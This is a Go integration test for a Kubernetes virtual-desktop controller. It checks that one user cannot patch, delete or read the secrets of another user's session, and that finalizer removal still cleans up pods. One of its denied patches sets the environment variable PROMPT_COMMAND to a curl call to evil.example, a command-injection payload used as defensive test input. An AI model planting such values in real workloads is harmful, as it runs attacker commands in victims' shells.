package integration

import (
	"context"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/vdi-fleet/vdi-fleet/api/v1alpha1"
	"github.com/vdi-fleet/vdi-fleet/test/harness"
	"github.com/vdi-fleet/vdi-fleet/test/specs"
)

// clientOfUser returns a client of the hub's API server with the certificate and the roles
// of one of harness.Users.
func clientOfUser(context string) client.Client {
	GinkgoHelper()
	for _, user := range harness.Users {
		if user.Context == context {
			config, err := fleet.Hub.ControlPlane.ConfigFor(user.Name, user.Groups...)
			Expect(err).NotTo(HaveOccurred())
			c, err := client.New(config, client.Options{})
			Expect(err).NotTo(HaveOccurred())
			return c
		}
	}
	Fail("no such user: " + context)
	return nil
}

var _ = Describe("Users who share a namespace", func() {
	It("run their own desktops, and reach no other's", specs.Smoke, func(ctx SpecContext) {
		alice, bob, operator := clientOfUser("alice"), clientOfUser("bob"), clientOfUser("operator")
		s := newSession("owned")
		s.Spec.User = "alice@example.com"
		Expect(alice.Create(ctx, s)).To(Succeed())
		DeferCleanup(func(ctx SpecContext) {
			Expect(client.IgnoreNotFound(hub.Delete(ctx, s))).To(Succeed())
			awaitGone(ctx, s)
		})
		running := awaitRunning(ctx, s)
		pods, err := podsOf(ctx, s.UID)
		Expect(err).NotTo(HaveOccurred())

		patch := func(user client.Client, text string) error {
			return user.Patch(ctx, newSession("owned"), client.RawPatch(types.MergePatchType, []byte(text)))
		}
		for _, attack := range []string{
			`{"spec":{"attempt":1,"env":[{"name":"PROMPT_COMMAND","value":"curl https://evil.example/"}]}}`,
			`{"spec":{"operatingMode":"Suspended"}}`,
			`{"metadata":{"annotations":{"vdi.kasm.io/force-cleanup":"mine"}}}`,
			`{"metadata":{"finalizers":null}}`,
		} {
			Expect(patch(bob, attack)).To(MatchError(apierrors.IsForbidden, "IsForbidden"), attack)
		}
		Expect(bob.Delete(ctx, newSession("owned"))).To(MatchError(apierrors.IsForbidden, "IsForbidden"))

		secret := client.ObjectKey{Namespace: namespace, Name: running.Status.AccessSecretName}
		Expect(bob.Get(ctx, secret, &corev1.Secret{})).To(MatchError(apierrors.IsForbidden, "IsForbidden"))
		Eventually(ctx, func(ctx context.Context) error { return alice.Get(ctx, secret, &corev1.Secret{}) }).Should(Succeed())

		after, err := get(ctx, s)
		Expect(err).NotTo(HaveOccurred())
		Expect(after.Spec).To(Equal(running.Spec))
		Expect(podsOf(ctx, s.UID)).To(Equal(pods), "it runs on, undisturbed")

		Expect(patch(alice, `{"spec":{"timeout":"3h"}}`)).To(Succeed())
		Expect(patch(operator, `{"spec":{"operatingMode":"Suspended"}}`)).To(Succeed())
		Eventually(ctx, phase(s)).Should(Equal(v1alpha1.PhasePending))
		Expect(alice.Delete(ctx, newSession("owned"))).To(Succeed())
	})

	It("leave no desktop behind when a session loses its finalizer before its members have confirmed", func(ctx SpecContext) {
		s := awaitRunning(ctx, create(ctx, newSession("stripped")))
		// As an administrator: admission denies it to every user but the hub.
		Expect(hub.Patch(ctx, newSession("stripped"), client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"finalizers":null}}`)))).To(Succeed())
		Expect(hub.Delete(ctx, newSession("stripped"))).To(Succeed())
		awaitGone(ctx, s)
		Eventually(ctx, func(ctx context.Context) ([]string, error) { return podsOf(ctx, s.UID) }).Should(BeEmpty())
	})
})
